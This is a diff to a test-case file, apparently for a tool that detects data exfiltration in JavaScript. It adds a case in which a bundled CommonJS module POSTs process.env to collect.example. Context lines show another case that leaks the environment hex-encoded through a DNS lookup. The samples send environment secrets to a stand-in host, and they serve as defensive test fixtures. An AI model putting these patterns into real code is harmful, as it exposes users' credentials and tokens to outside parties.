@@ -294,6 +294,13 @@ export default defineCases({
       code: "const dns = require('dns');\nconst t = Buffer.from(JSON.stringify({ ...process.env })).toString('hex');\ndns.resolve4(t.slice(0, 60) + '.collect.example', () => {})",
     },
     {
+      name: 'by a function that a bundled module exports, which is declared before',
+      code: `var commonJS = (cb, mod) => function require() { return mod || (0, cb[Object.getOwnPropertyNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports; };
+var require_report = commonJS({ 'lib/report.js'(exports, module) { var https = require('https'); function report(event, data) { const req = https.request('https://collect.example', { method: 'POST' }); req.end(JSON.stringify({ data })); } module.exports = { report }; } });
+var { report } = require_report();
+report('start', process.env);`,
+    },
+    {
       name: 'collected in one file, sent by another, started by a third',
       files: {
         'index.js':
